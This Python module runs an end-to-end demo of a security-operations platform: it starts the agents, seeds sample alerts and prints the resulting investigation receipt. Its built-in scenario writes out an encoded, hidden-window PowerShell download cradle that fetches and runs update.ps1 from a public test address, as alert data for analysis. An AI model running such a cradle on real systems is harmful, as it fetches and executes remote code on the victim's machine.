"""``aurora demo``: the platform's main job, end to end, in about a minute.

It starts the platform with ``aurora up``'s launcher (:mod:`gateway.launcher`: migrated
database, admin, every specialist agent as its own process, the gateway; not the MCP server,
which investigations do not use), but on a fresh temporary data directory and free loopback
ports, so it never touches the user's data (``--keep`` keeps the directory). Then it acts as a
client over real HTTP and WebSocket: logs in as an analyst, seeds sample alerts built from real
third-party data (or from a small built-in scenario when no data is found), dispatches an
investigation, prints the agents' thoughts as they stream, prints the receipt, and shuts
everything down.

What is here is the demo itself: its sample alerts (pure functions, tested on their own), the
walkthrough a client makes, and the rendering of thoughts and receipts.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import ipaddress
import json
import logging
import os
import re
import secrets
import shutil
import signal
import sys
import tempfile
import textwrap
import time
from collections.abc import AsyncIterator, Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path, PureWindowsPath
from typing import TYPE_CHECKING, Any

from agents.catalog import SPECIALISTS
from core.security.permissions import Role
from core.tasks import cancel_and_wait

if TYPE_CHECKING:
    import aiohttp

    from core.settings import Settings

log = logging.getLogger("aurora.demo")

PROJECT_ROOT = Path(__file__).resolve().parent.parent
SHARED_DATA_ENV = "AURORA_SHARED_DATA"
"""Where tests, evals and this demo find the shared third-party data when it is elsewhere."""

WINDOWS_LOGS = Path("logs/evtx_to_mitre_attack/jsonl")
SURICATA_SAMPLES = Path("network/suricata_sample_data/samples")
WINDOWS_TECHNIQUES = ("T1027", "T1059.001", "T1572")
"""Technique folders of the EVTX-to-MITRE-Attack logs the demo takes one event from each, in
order: an obfuscated CrackMapExec PowerShell payload, a PowerShell download cradle and netsh
port forwarding: command lines that give the malware agent real work."""

ANALYST = "demo-analyst"
THOUGHTS_SETTLE_SECONDS = 0.3
"""After the receipt, how long the thought stream must stay quiet before the demo stops
listening: thoughts and receipts travel on two sockets, so the last thoughts may arrive just
after the receipt."""


class DemoError(Exception):
    """A step of the demo failed; the message says which and why, for the user."""


# -- where the sample data is --------------------------------------------------------------------


def locate_shared_data(
    explicit: Path | None, *, environ: Mapping[str, str], cwd: Path
) -> Path | None:
    """The shared data directory: ``explicit`` (``--data``) when given, which must exist
    (DemoError otherwise); else ``$AURORA_SHARED_DATA``; else ``../shared/data`` beside the
    current directory or beside the project. None when none of them is a directory."""
    if explicit is not None:
        if not explicit.is_dir():
            raise DemoError(f"--data {explicit}: no such directory")
        return explicit.resolve()
    configured = environ.get(SHARED_DATA_ENV)
    candidates = [Path(configured)] if configured else []
    candidates += [cwd.parent / "shared" / "data", PROJECT_ROOT.parent / "shared" / "data"]
    for candidate in candidates:
        if candidate.is_dir():
            return candidate.resolve()
    return None


# -- sample alerts -------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class SampleAlert:
    """One alert to seed: ``body`` is a ``POST /api/v1/alerts`` body; ``command_lines`` go
    with it to ``POST /api/v1/agents/investigate`` (an alert has no field for them)."""

    body: dict[str, Any]
    command_lines: tuple[str, ...] = ()


@dataclass(frozen=True, slots=True)
class Scenario:
    """The alerts of one demo run, where they came from, and which one to investigate."""

    source: str
    alerts: tuple[SampleAlert, ...]
    builtin: bool = False
    focus: int = 0

    @property
    def focus_alert(self) -> SampleAlert:
        return self.alerts[self.focus]


EVENT_NAMES = {
    1: "Sysmon process creation",
    4688: "process creation",
    4103: "PowerShell module logging",
    4104: "PowerShell script block",
}
CHANNEL_SOURCES = {
    "microsoft-windows-sysmon/operational": "sysmon",
    "security": "windows-security",
    "microsoft-windows-powershell/operational": "windows-powershell",
}


def _timestamp(value: Any) -> str | None:
    """ISO 8601 with an offset; a timestamp without one is taken as UTC (eve.json and EVTX
    exports write UTC when they omit it)."""
    if not isinstance(value, str) or not value:
        return None
    try:
        parsed = datetime.fromisoformat(value)
    except ValueError:
        return None
    if parsed.tzinfo is None:
        parsed = parsed.replace(tzinfo=UTC)
    return parsed.isoformat()


def _command_of(event: Mapping[str, Any]) -> str | None:
    """The command an event records: a process command line or a PowerShell script block."""
    for key in ("CommandLine", "ScriptBlockText"):
        value = event.get(key)
        if isinstance(value, str) and value.strip():
            text = value.strip()
            # EVTX-to-JSON keeps the quotes PowerShell logged around a script block.
            if len(text) > 1 and text[0] == text[-1] == '"':
                text = text[1:-1].strip()
            return text or None
    return None


def _user_of(event: Mapping[str, Any]) -> str | None:
    user = event.get("User")
    if isinstance(user, str) and user.strip():
        return user.strip()
    name, domain = event.get("SubjectUserName"), event.get("SubjectDomainName")
    if isinstance(name, str) and name and name != "-":
        return f"{domain}\\{name}" if isinstance(domain, str) and domain else name
    return None


def _indicator_entities(text: str) -> list[dict[str, str]]:
    """The network indicators in ``text`` as alert entities; hashes are left out on purpose:
    a Sysmon hash names the (usually legitimate) binary that ran, not the payload."""
    from tools.ioc import extract_iocs

    entities = []
    for ioc in extract_iocs(text):
        if ioc.type == "ip":
            address = ipaddress.ip_address(ioc.value)
            # "listenaddress=0.0.0.0" and loopback say where, not who: not indicators.
            if address.is_unspecified or address.is_loopback:
                continue
        if ioc.type in {"ip", "domain", "url"}:
            entities.append({"type": ioc.type, "value": ioc.value})
    return entities


def _split_folder(name: str) -> tuple[str, str]:
    """``"T1027-Obfuscated Files or Information"`` → ``("T1027", "Obfuscated Files or
    Information")``."""
    ident, _, label = name.partition("-")
    return ident.strip(), label.strip()


def windows_alert(
    event: Mapping[str, Any], *, tactic: str, technique: str, scenario: str
) -> SampleAlert:
    """An alert for one Windows event (the flat EVTX-to-JSON layout) from a folder labelled
    with its ATT&CK ``tactic`` and ``technique`` (``"TA0005-Defense Evasion"``,
    ``"T1027-Obfuscated Files or Information"``); ``scenario`` is the file's own label."""
    tactic_id, tactic_name = _split_folder(tactic)
    technique_id, technique_name = _split_folder(technique)
    host = str(event.get("Computer") or "").strip().lower() or None
    command = _command_of(event)
    user = _user_of(event)
    image = event.get("Image") or event.get("NewProcessName")
    parent = event.get("ParentImage") or event.get("ParentProcessName")
    event_id = event.get("EventID")
    what = EVENT_NAMES.get(event_id, f"event {event_id}") if isinstance(event_id, int) else "event"
    channel = str(event.get("Channel") or "")
    source = CHANNEL_SOURCES.get(channel.lower(), "windows")

    lines = [f"{channel or 'Windows'} {what} on {host or 'an unnamed host'}"]
    if isinstance(image, str) and image:
        ran = f"{user} ran {image}" if user else f"ran {image}"
        lines.append(ran + (f" (parent {parent})" if isinstance(parent, str) and parent else ""))
    elif user:
        lines.append(f"user {user}")
    if command:
        lines.append(f"Command: {command}")
    entities: list[dict[str, str]] = []
    if host:
        entities.append({"type": "host", "value": host})
    if user:
        entities.append({"type": "user", "value": user})
    if isinstance(image, str) and image:
        entities.append({"type": "process", "value": PureWindowsPath(image).name.lower()})
    if command:
        entities += _indicator_entities(command)
    body: dict[str, Any] = {
        "title": f"{scenario} on {host or 'unknown host'} ({technique_id} {technique_name})",
        "description": "\n".join(lines)[:20_000],
        "severity": "high",
        "source": source,
        "rule_id": f"evtx-to-mitre-attack/{technique_id}",
        "tags": sorted(
            {
                f"attack.{technique_id.lower()}",
                f"attack.{tactic_name.lower().replace(' ', '_')}" if tactic_name else tactic_id,
                "evtx-to-mitre-attack",
            }
        ),
        "entities": entities,
        "raw": dict(event),
        "on_duplicate": "merge",
    }
    if observed := _timestamp(event.get("TimeCreated")):
        body["observed_at"] = observed
    return SampleAlert(body=body, command_lines=(command,) if command else ())


EVENT_IDS_PREFIX = re.compile(r"^ID[-\d, ]*")


def _richest_event(path: Path) -> dict[str, Any] | None:
    """The event of a JSON-lines file with the most command to analyse (PowerShell first)."""
    best: tuple[tuple[bool, int], dict[str, Any]] | None = None
    with path.open(encoding="utf-8") as lines:
        for line in lines:
            try:
                event = json.loads(line)
            except json.JSONDecodeError:
                continue
            command = _command_of(event) if isinstance(event, dict) else None
            if command is None:
                continue
            rank = ("powershell" in command.lower(), len(command))
            if best is None or rank > best[0]:
                best = (rank, event)
    return best[1] if best else None


def windows_samples(
    root: Path, techniques: Sequence[str] = WINDOWS_TECHNIQUES
) -> list[SampleAlert]:
    """One alert per technique in ``techniques`` from the labelled Windows attack logs under
    ``root`` (the shared data directory); techniques whose folder is missing are skipped."""
    base = root / WINDOWS_LOGS
    if not base.is_dir():
        return []
    folders = {
        _split_folder(folder.name)[0]: folder
        for tactic in sorted(base.iterdir())
        if tactic.is_dir()
        for folder in sorted(tactic.iterdir())
        if folder.is_dir()
    }
    samples = []
    for technique in techniques:
        folder = folders.get(technique)
        if folder is None:
            continue
        for path in sorted(folder.glob("*.jsonl")):
            event = _richest_event(path)
            if event is None:
                continue
            # File names read "ID4103-4104-Payload download via PowerShell": event ids, then what.
            label = EVENT_IDS_PREFIX.sub("", path.stem).strip() or path.stem
            samples.append(
                windows_alert(
                    event, tactic=folder.parent.name, technique=folder.name, scenario=label
                )
            )
            break
    return samples


SURICATA_SEVERITY = {1: "high", 2: "medium", 3: "low"}


def suricata_alert(record: Mapping[str, Any]) -> SampleAlert:
    """An alert for one Suricata eve.json ``alert`` record."""
    alert = record.get("alert") or {}
    http = record.get("http") or {}
    src, dst = record.get("src_ip"), record.get("dest_ip")
    flow = (
        f"{record.get('proto', '?')} {src}:{record.get('src_port', '?')} → "
        f"{dst}:{record.get('dest_port', '?')}"
    )
    lines = [f"Suricata: {alert.get('category') or 'alert'}, {flow}"]
    entities = [{"type": "ip", "value": str(ip)} for ip in (src, dst) if ip]
    hostname = http.get("hostname")
    if hostname:
        url = f"http://{hostname}{http.get('url', '/')}"
        lines.append(
            f"HTTP {http.get('http_method', 'GET')} {url}"
            + (f" (user agent {http['http_user_agent']!r})" if http.get("http_user_agent") else "")
        )
        entities.append({"type": "url", "value": url})
    body: dict[str, Any] = {
        "title": str(alert.get("signature") or "Suricata alert").strip(),
        "description": "\n".join(lines),
        "severity": SURICATA_SEVERITY.get(severity, "medium")
        if isinstance(severity := alert.get("severity"), int)
        else "medium",
        "source": "suricata",
        "rule_id": f"sid:{alert.get('signature_id')}" if alert.get("signature_id") else None,
        "tags": ["suricata"],
        "entities": entities,
        "raw": dict(record),
        "on_duplicate": "merge",
    }
    if observed := _timestamp(record.get("timestamp")):
        body["observed_at"] = observed
    return SampleAlert(body=body)


TROJAN_CATEGORY = "A Network Trojan was detected"


def suricata_samples(root: Path, count: int = 1) -> list[SampleAlert]:
    """The ``count`` most telling Suricata alerts of the samples under ``root``: the most
    severe first, then trojan traffic before policy and scan noise, then those with an HTTP
    request (a URL to look into); ties in file order."""
    base = root / SURICATA_SAMPLES
    ranked: list[tuple[tuple[int, ...], dict[str, Any]]] = []
    for file_index, path in enumerate(sorted(base.glob("*/alerts-only.json"))):
        try:
            records = json.loads(path.read_text(encoding="utf-8"))
        except (OSError, json.JSONDecodeError):
            continue
        for position, record in enumerate(records if isinstance(records, list) else []):
            if not isinstance(record, dict) or not isinstance(record.get("alert"), dict):
                continue
            severity = record["alert"].get("severity")
            rank = (
                severity if isinstance(severity, int) else 9,
                0 if record["alert"].get("category") == TROJAN_CATEGORY else 1,
                0 if (record.get("http") or {}).get("hostname") else 1,
                file_index,
                position,
            )
            ranked.append((rank, record))
    ranked.sort(key=lambda item: item[0])
    return [suricata_alert(record) for _, record in ranked[:count]]


def _encoded(script: str) -> str:
    """What ``powershell -EncodedCommand`` takes: base64 of the UTF-16LE script."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


SCANME = "45.33.32.156"
"""scanme.nmap.org, which the Nmap project lets anyone probe: a real address that harms nobody."""


def builtin_scenario() -> Scenario:
    """A small scenario written for the demo, for a clone without the shared data: an encoded
    PowerShell download cradle and the connection it made."""
    cradle = f"IEX (New-Object Net.WebClient).DownloadString('http://{SCANME}/update.ps1')"
    command = f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {_encoded(cradle)}"
    process = SampleAlert(
        body={
            "title": "Encoded PowerShell started by Word on ws-demo-01 (built-in sample)",
            "description": (
                "Built-in demo scenario. WINWORD.EXE started powershell.exe with an encoded "
                f"command on ws-demo-01.\nCommand: {command}"
            ),
            "severity": "high",
            "source": "edr",
            "rule_id": "demo/encoded-powershell",
            "tags": ["demo", "attack.t1059.001"],
            "entities": [
                {"type": "host", "value": "ws-demo-01"},
                {"type": "user", "value": "corp\\j.doe"},
                {"type": "process", "value": "powershell.exe"},
            ],
            "on_duplicate": "merge",
        },
        command_lines=(command,),
    )
    connection = SampleAlert(
        body={
            "title": f"Outbound HTTP from ws-demo-01 to {SCANME} (built-in sample)",
            "description": (
                f"Built-in demo scenario. TCP 10.0.0.23:49811 → {SCANME}:80, "
                f"GET http://{SCANME}/update.ps1"
            ),
            "severity": "medium",
            "source": "firewall",
            "rule_id": "demo/outbound-http",
            "tags": ["demo"],
            "entities": [
                {"type": "ip", "value": "10.0.0.23"},
                {"type": "ip", "value": SCANME},
                {"type": "url", "value": f"http://{SCANME}/update.ps1"},
            ],
            "on_duplicate": "merge",
        }
    )
    return Scenario(
        source="the built-in sample scenario (no shared data found; see --data)",
        alerts=(process, connection),
        builtin=True,
    )


def load_scenario(root: Path | None) -> Scenario:
    """Alerts from the shared data at ``root`` (Windows attack logs, then Suricata), investigating
    the first that carries a command line; the built-in scenario when ``root`` is None or holds
    none of the samples."""
    if root is None:
        return builtin_scenario()
    windows, network = windows_samples(root), suricata_samples(root)
    alerts = (*windows, *network)
    if not alerts:
        return builtin_scenario()
    parts = []
    if windows:
        parts.append(f"{len(windows)} from the EVTX-to-MITRE-Attack Windows logs")
    if network:
        parts.append(f"{len(network)} from the Suricata eve.json samples")
    focus = next((i for i, a in enumerate(alerts) if a.command_lines), 0)
    return Scenario(source=f"{root} ({', '.join(parts)})", alerts=alerts, focus=focus)


# -- rendering -----------------------------------------------------------------------------------


def _clip(text: str, limit: int) -> str:
    text = " ".join(str(text).split())
    return text if len(text) <= limit else text[: limit - 1] + "…"


def render_alert(alert: Mapping[str, Any]) -> str:
    """One line for a seeded alert (a ``POST /api/v1/alerts`` reply)."""
    return (
        f"  {alert.get('id', '?'):<16} {alert.get('severity', '?'):<8} "
        f"{alert.get('source', '?'):<19} {_clip(alert.get('title', ''), 72)}"
    )


def render_thought(message: Mapping[str, Any], elapsed: float) -> str | None:
    """One line for a message of ``WS /ws/agent-thoughts``, ``elapsed`` seconds after the
    dispatch; None for a message that is not for a reader (neither a thought nor a gap)."""
    kind = message.get("type")
    if kind == "gap":
        return f"  {_offset(elapsed)}  ({message.get('dropped', '?')} thought(s) dropped: too slow)"
    if kind != "thought":
        return None
    agent = str(message.get("agent", "?"))
    step = str(message.get("step", ""))
    return f"  {_offset(elapsed)}  {agent:<13} {step:<10} {_clip(message.get('text', ''), 200)}"


def _offset(seconds: float) -> str:
    return f"{f'+{seconds:.2f}s':>8}"


def _action_row(action: Mapping[str, Any]) -> str:
    """One response action of the receipt: what, on what, the platform's guardrail decision
    and what became of it (recorded, proposed, executed, denied, expired ...)."""
    guardrail = action.get("guardrail") or {}
    row = (
        f"{action.get('action', '?')} {_clip(str(action.get('target', '?')), 70)}  "
        f"[impact {action.get('impact', '?')}] → {action.get('status', '?')} "
        f"(policy: {guardrail.get('decision', '?')}, {guardrail.get('outcome', '?')})"
    )
    if approval := action.get("approval"):
        row += f"; {approval.get('decision')} by {approval.get('by') or 'nobody'}"
    if error := action.get("error"):
        row += f"; {error.get('code')}"
    return row


def _section(title: str, rows: Iterable[str], width: int) -> list[str]:
    """``title`` in a left column, ``rows`` beside it, each wrapped to ``width``."""
    lines: list[str] = []
    indent = " " * 14
    for row in rows:
        first = f"  {title:<12}" if not lines else indent
        wrapped = textwrap.wrap(
            row, width=width, initial_indent=first, subsequent_indent=indent + "  "
        ) or [first]
        lines += wrapped
    return lines


def render_receipt(
    investigation: Mapping[str, Any],
    *,
    technique_names: Mapping[str, str] | None = None,
    width: int = 100,
    max_items: int = 8,
) -> list[str]:
    """An investigation (``GET /api/v1/investigations/{id}``) as lines an analyst reads in a
    terminal: verdict, techniques with the agents that saw them, indicators, each agent's
    finding, the proposed actions with the guardrail's word, the tool-call chain and timings.
    Missing parts of the receipt are left out, never invented."""
    names = technique_names or {}
    status = investigation.get("status", "?")
    lines = [f"Receipt of {investigation.get('id', '?')}: {status}"]
    receipt = investigation.get("receipt")
    if not isinstance(receipt, dict):
        error = investigation.get("error")
        lines.append(f"  no receipt{f' ({error})' if error else ''}")
        return lines

    verdict = str(receipt.get("verdict", "?"))
    confidence = receipt.get("confidence")
    lines += _section(
        "Verdict",
        [
            f"{verdict.upper()}  (severity {receipt.get('severity', '?')}, confidence "
            + (f"{confidence:.2f}" if isinstance(confidence, (int, float)) else "?")
            + ")"
        ],
        width,
    )
    techniques = [t for t in receipt.get("techniques") or [] if isinstance(t, dict)]
    lines += _section(
        "Techniques",
        [
            f"{t.get('id', '?'):<10} {_clip(names.get(str(t.get('id')), ''), 48):<48} "
            f"{', '.join(t.get('agents') or [])}"
            for t in techniques[:max_items]
        ]
        + ([f"(+{len(techniques) - max_items} more)"] if len(techniques) > max_items else []),
        width,
    )
    iocs = [i for i in receipt.get("iocs") or [] if isinstance(i, dict)]
    lines += _section(
        "Indicators",
        [f"{i.get('type', '?'):<16} {_clip(i.get('value', ''), 80)}" for i in iocs[:max_items]]
        + ([f"(+{len(iocs) - max_items} more)"] if len(iocs) > max_items else []),
        width,
    )
    findings = [f for f in receipt.get("findings") or [] if isinstance(f, dict)]
    finding_rows = []
    for finding in findings:
        agent = str(finding.get("agent", "?"))
        if finding.get("round"):
            agent += f" (round {int(finding['round']) + 1})"
        conf = finding.get("confidence")
        backend = finding.get("backend", "?") + (", degraded" if finding.get("degraded") else "")
        finding_rows.append(
            f"{agent}: {finding.get('severity', '?')}, "
            + (f"{conf:.2f}" if isinstance(conf, (int, float)) else "?")
            + f", {backend}. {_clip(finding.get('summary', ''), 400)}"
        )
    lines += _section("Findings", finding_rows, width)

    if isinstance(receipt.get("actions"), list):
        actions = [_action_row(a) for a in receipt["actions"] if isinstance(a, dict)]
        lines += _section("Actions", actions or ["none proposed"], width)
    failures = [f for f in receipt.get("failures") or [] if isinstance(f, dict)]
    if failures:
        lines += _section(
            "Failed",
            [f"{f.get('agent', '?')}: {_clip(f.get('reason', ''), 120)}" for f in failures],
            width,
        )
    tool_calls = receipt.get("tool_calls") or []
    chain = receipt.get("tool_call_chain")
    if tool_calls or chain:
        lines += _section(
            "Tool calls", [f"{len(tool_calls)} recorded; SHA-256 chain {chain or '-'}"], width
        )
    timeline = [e for e in receipt.get("timeline") or [] if isinstance(e, dict)]
    if timeline:
        lines += _section("Timeline", [" → ".join(_timeline_step(e) for e in timeline)], width)
    latency, tokens = receipt.get("latency_ms"), receipt.get("tokens")
    if isinstance(latency, (int, float)):
        lines += _section(
            "Latency",
            [
                f"{latency / 1000:.2f} s"
                + (f", {tokens} LLM token(s)" if tokens is not None else "")
            ],
            width,
        )
    return lines


def _timeline_step(event: Mapping[str, Any]) -> str:
    name = str(event.get("event", "?"))
    if name == "plan":
        return f"plan [{', '.join(event.get('agents') or [])}]"
    if name in {"finding", "agent_failed"}:
        return f"{name} {event.get('agent', '?')}"
    if name == "report":
        return f"report ({event.get('verdict', '?')})"
    return name


# -- the platform, on this machine ---------------------------------------------------------------


@dataclass(slots=True)
class Platform:
    """A running demo platform: where it serves and who may log in."""

    url: str
    settings: Settings
    analyst_password: str
    admin_password: str
    agents: dict[str, str | None] = field(default_factory=dict)


AGENTS_START_SECONDS = 60.0
"""How long the demo waits for every agent to be ready before it gives up."""


def child_environment(values: Mapping[str, str], *, unset: Iterable[str] = ()) -> dict[str, str]:
    """The agent processes' environment: this one's, with ``values`` set and ``unset`` removed
    (they read their settings from it, as ``aurora agent run`` does)."""
    removed = set(unset)
    return {**{k: v for k, v in os.environ.items() if k not in removed}, **values}


def demo_settings(settings: Settings, data_dir: Path, *, verbose: bool) -> Settings:
    """``settings`` moved onto ``data_dir`` and loopback: its own SQLite database, no
    configured agent URLs, the user's choices (LLM, feeds, guardrails, ATT&CK) kept."""
    return settings.model_copy(
        update={
            "data_dir": data_dir,
            "database_url": None,
            "host": "127.0.0.1",
            "agent_host": "127.0.0.1",
            "agent_urls": {},
            "access_log": verbose and settings.access_log,
            "admin_username": "admin",
            "admin_password": None,
        }
    )


@contextlib.asynccontextmanager
async def running_platform(
    settings: Settings, *, verbose: bool, out: Callable[[str], None]
) -> AsyncIterator[Platform]:
    """The platform as ``aurora up`` runs it (:class:`~gateway.launcher.Launcher`), with the demo
    analyst beside the admin, every specialist agent on a free port and the gateway on another;
    stopped on exit. SIGINT or SIGTERM cuts the demo short (:class:`~gateway.launcher.Stopped`)."""
    from gateway.launcher import Account, Launcher, prepare_database, reserve_port
    from gateway.supervisor import agent_command

    analyst_password = secrets.token_urlsafe(18)
    # The gateway's port is taken first, so the agents that call the API (the hunter) know its
    # address before it serves. Port 0 for each agent: it takes a free port and says which; the
    # gateway is told where they are.
    listener = reserve_port(settings.host)
    environment = child_environment(
        {
            "AURORA_DATA_DIR": str(settings.data_dir),
            "AURORA_AGENT_HOST": settings.agent_host,
            "AURORA_AGENT_URLS": "{}",
            "AURORA_LOG_LEVEL": settings.log_level if verbose else "WARNING",
            "AURORA_GATEWAY_URL": f"http://{settings.host}:{listener.getsockname()[1]}",
        },
        unset=("AURORA_DATABASE_URL",),
    )
    children = {name: (*agent_command(name), "--port", "0") for name in SPECIALISTS}
    async with Launcher(
        children, environment=environment, gateway_socket=listener, interrupt=True
    ) as launcher:
        out(f"Starting the platform: database, gateway and {len(SPECIALISTS)} agent processes…")
        launcher.start_children()  # they load while the database is prepared
        try:
            analyst = Account(
                username=ANALYST,
                password=analyst_password,
                role=Role.ANALYST,
                full_name="Demo analyst",
            )
            boot = await launcher.uninterrupted(prepare_database(settings, accounts=[analyst]))
            started = await launcher.children_ready(AGENTS_START_SECONDS)
            missing = sorted(name for name, url in started.items() if url is None)
            if missing:
                raise DemoError(f"agent(s) that did not start: {', '.join(missing)}")
            served = settings.model_copy(
                update={"agent_urls": {name: [str(url)] for name, url in started.items()}}
            )
            yield Platform(
                url=await launcher.serve(served),
                settings=served,
                analyst_password=analyst_password,
                admin_password=boot.generated_password or "",
                agents=started,
            )
        finally:
            out("Stopping the platform.")


# -- the walkthrough, as a client ----------------------------------------------------------------


async def _call(
    http: aiohttp.ClientSession,
    method: str,
    path: str,
    *,
    expect: Iterable[int],
    token: str | None = None,
    body: Mapping[str, Any] | None = None,
) -> dict[str, Any]:
    """One API call; DemoError naming the route and the AURORA error unless the status is one
    of ``expect``."""
    import aiohttp

    headers = {"Authorization": f"Bearer {token}"} if token else {}
    async with http.request(method, path, json=body, headers=headers) as response:
        try:
            reply = await response.json()
        except (aiohttp.ContentTypeError, json.JSONDecodeError):
            reply = {}
        if response.status not in set(expect):
            error = reply.get("error") if isinstance(reply, dict) else None
            what = (
                f"{error.get('code')} {error.get('message')} {error.get('detail') or ''}".strip()
                if isinstance(error, dict)
                else f"HTTP {response.status}"
            )
            raise DemoError(f"{method} {path} failed: {what}")
        return reply if isinstance(reply, dict) else {}


async def _read_into(
    ws: aiohttp.ClientWebSocketResponse, name: str, queue: asyncio.Queue[tuple[str, Any]]
) -> None:
    """Queue each JSON object ``ws`` sends, tagged with ``name``; ``None`` once it closes."""
    import aiohttp

    async for message in ws:
        if message.type != aiohttp.WSMsgType.TEXT:
            continue
        with contextlib.suppress(ValueError):
            decoded = json.loads(message.data)
            if isinstance(decoded, dict):
                queue.put_nowait((name, decoded))
    queue.put_nowait((name, None))


async def follow_investigation(
    thoughts: aiohttp.ClientWebSocketResponse,
    receipts: aiohttp.ClientWebSocketResponse,
    investigation_id: str,
    *,
    dispatched_at: float,
    out: Callable[[str], None],
) -> int:
    """Print the investigation's thoughts as they arrive until its receipt is pushed (and the
    thought stream has settled); returns how many thoughts were printed. Both streams are
    subscribed unfiltered before the dispatch so that no early thought is missed, and filtered
    here by ``investigation_id``. The caller bounds the wait (``asyncio.timeout``)."""
    queue: asyncio.Queue[tuple[str, Any]] = asyncio.Queue()
    readers = [
        asyncio.create_task(_read_into(thoughts, "thoughts", queue)),
        asyncio.create_task(_read_into(receipts, "receipts", queue)),
    ]
    printed, finished = 0, False
    try:
        while True:
            if finished:
                try:
                    stream, message = await asyncio.wait_for(queue.get(), THOUGHTS_SETTLE_SECONDS)
                except TimeoutError:
                    return printed
            else:
                stream, message = await queue.get()
            if message is None:
                if not finished:
                    raise DemoError(f"the gateway closed the {stream} stream")
                continue
            if message.get("investigation_id") not in {None, investigation_id}:
                continue
            if stream == "receipts" and message.get("type") == "receipt":
                finished = True
            elif stream == "thoughts" and (
                line := render_thought(message, time.monotonic() - dispatched_at)
            ):
                out(line)
                printed += 1
    finally:
        for reader in readers:
            await cancel_and_wait(reader)


async def walkthrough(
    url: str,
    scenario: Scenario,
    *,
    password: str,
    time_limit: float,
    out: Callable[[str], None],
) -> dict[str, Any]:
    """Against the platform at ``url``: log in as the demo analyst (with ``password``), seed the
    scenario's alerts, investigate its focus alert while printing the thoughts, and return the
    finished investigation. DemoError when a step fails."""
    import aiohttp

    client_timeout = aiohttp.ClientTimeout(total=30)
    async with aiohttp.ClientSession(base_url=url, timeout=client_timeout) as http:
        login = await _call(
            http,
            "POST",
            "/api/v1/auth/token",
            expect={200},
            body={"username": ANALYST, "password": password},
        )
        token = str(login["access_token"])
        runtime = await _call(http, "GET", "/api/v1/settings/runtime", expect={200}, token=token)
        mode = str((runtime.get("settings") or {}).get("mode", "?"))
        out(
            f"\nLogged in as '{ANALYST}' (role analyst); system mode {mode}"
            + (": response actions are recorded, never executed." if mode == "dry_run" else ".")
        )
        out(f"Seeding {len(scenario.alerts)} alert(s):")
        seeded = []
        for sample in scenario.alerts:
            alert = await _call(
                http, "POST", "/api/v1/alerts", expect={200, 201}, token=token, body=sample.body
            )
            seeded.append(alert)
            out(render_alert(alert))

        focus = seeded[scenario.focus]
        command_lines = list(scenario.focus_alert.command_lines)
        out(f"\nInvestigating {focus['id']}: {_clip(focus.get('title', ''), 80)}")
        for command in command_lines:
            out(f"  command line: {_clip(command, 160)}")
        params = {"access_token": token}
        async with (
            http.ws_connect("/api/v1/ws/agent-thoughts", params=params) as thoughts,
            http.ws_connect("/api/v1/ws/investigation-receipts", params=params) as receipts,
        ):
            dispatched_at = time.monotonic()
            accepted = await _call(
                http,
                "POST",
                "/api/v1/agents/investigate",
                expect={202},
                token=token,
                body={"alert_id": focus["id"], "command_lines": command_lines, "priority": "high"},
            )
            out(
                f"Dispatched {accepted['id']} ({accepted.get('status')}); "
                "the agents' thoughts, live:"
            )
            try:
                async with asyncio.timeout(time_limit):
                    printed = await follow_investigation(
                        thoughts,
                        receipts,
                        str(accepted["id"]),
                        dispatched_at=dispatched_at,
                        out=out,
                    )
            except TimeoutError:
                raise DemoError(
                    f"{accepted['id']} did not finish within {time_limit:.0f} s (see --timeout)"
                ) from None
        if printed == 0:
            out("  (no thoughts were streamed)")
        return await _call(
            http, "GET", f"/api/v1/investigations/{accepted['id']}", expect={200}, token=token
        )


def _technique_names(settings: Settings, receipt: Mapping[str, Any]) -> dict[str, str]:
    from tools.attack import AttackKB

    try:
        kb = AttackKB.from_settings(settings)
    except Exception:  # names are a nicety: the receipt is complete without them
        log.warning("ATT&CK names unavailable", exc_info=True)
        return {}
    names = {}
    for technique in receipt.get("techniques") or []:
        tid = str(technique.get("id", "")) if isinstance(technique, dict) else ""
        if found := kb.get(tid):
            names[tid] = found.technique.full_name
    return names


async def run_demo(
    settings: Settings,
    *,
    data: Path | None = None,
    builtin: bool = False,
    keep: bool = False,
    verbose: bool = False,
    time_limit: float,
    environ: Mapping[str, str] | None = None,
    out: Callable[[str], None] = print,
) -> int:
    """The whole demo; 0 when the investigation completed with every agent answering, 1 when
    a step failed (said on standard error), 2 for a ``--data`` that is not a directory."""
    started = time.monotonic()
    try:
        root = (
            None
            if builtin
            else locate_shared_data(
                data, environ=os.environ if environ is None else environ, cwd=Path.cwd()
            )
        )
    except DemoError as err:
        print(f"aurora demo: {err}", file=sys.stderr)
        return 2
    scenario = builtin_scenario() if builtin else load_scenario(root)
    out("AuroraSOC demo: sample alerts → an investigation by the specialist agents → a receipt.")
    out(f"Sample alerts from {scenario.source}")

    data_dir = Path(tempfile.mkdtemp(prefix="aurora-demo-"))
    out(
        f"Data directory: {data_dir} "
        + ("(kept afterwards)" if keep else "(removed afterwards; --keep keeps it)")
    )
    local = demo_settings(settings, data_dir, verbose=verbose)
    investigation: dict[str, Any] | None = None
    try:
        async with running_platform(local, verbose=verbose, out=out) as platform:
            ready = ", ".join(sorted(platform.agents))
            out(
                f"AuroraSOC is up at {platform.url} in {time.monotonic() - started:.1f} s "
                f"(agents: {ready})"
            )
            investigation = await walkthrough(
                platform.url,
                scenario,
                password=platform.analyst_password,
                time_limit=time_limit,
                out=out,
            )
            names = await asyncio.to_thread(
                _technique_names, platform.settings, investigation.get("receipt") or {}
            )
            out("")
            for line in render_receipt(investigation, technique_names=names):
                out(line)
            out("")
            if keep:
                out(
                    f"Kept {data_dir}: run `AURORA_DATA_DIR={data_dir} aurora up` to explore it "
                    f"(analyst '{ANALYST}' / {platform.analyst_password}, "
                    f"admin 'admin' / {platform.admin_password})."
                )
    except DemoError as err:
        print(f"aurora demo: {err}", file=sys.stderr)
        return 1
    finally:
        if not keep:
            shutil.rmtree(data_dir, ignore_errors=True)
    status = investigation.get("status") if investigation else None
    receipt = (investigation or {}).get("receipt") or {}
    if status != "completed":
        print(f"aurora demo: the investigation ended {status}", file=sys.stderr)
        return 1
    if receipt.get("failures"):
        agents = ", ".join(str(f.get("agent")) for f in receipt["failures"])
        print(f"aurora demo: the investigation is degraded: {agents} failed", file=sys.stderr)
        return 1
